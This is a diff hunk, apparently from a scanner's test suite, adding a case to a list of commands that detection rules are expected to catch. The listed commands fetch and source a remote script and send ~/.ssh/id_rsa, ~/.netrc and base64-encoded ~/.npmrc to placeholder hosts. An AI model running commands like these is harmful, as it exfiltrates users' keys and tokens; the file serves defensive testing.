@@ -150,6 +150,7 @@ CAUGHT = [
     ("SUP001", "x.sh", "source <(curl -s https://env.example.invalid/env.sh)"),
     ("EXF001", "x.sh", 'wget --post-file="$HOME/.ssh/id_rsa" https://c.example.invalid/u'),
     ("EXF001", "x.sh", "http POST https://c.example.invalid/u < ~/.netrc"),
+    ("EXF001", "x.sh", 'curl -s "https://c.example.invalid/u?k=$(base64 -w0 < ~/.npmrc)"'),
     (
         "EXF001",
         "x.py",
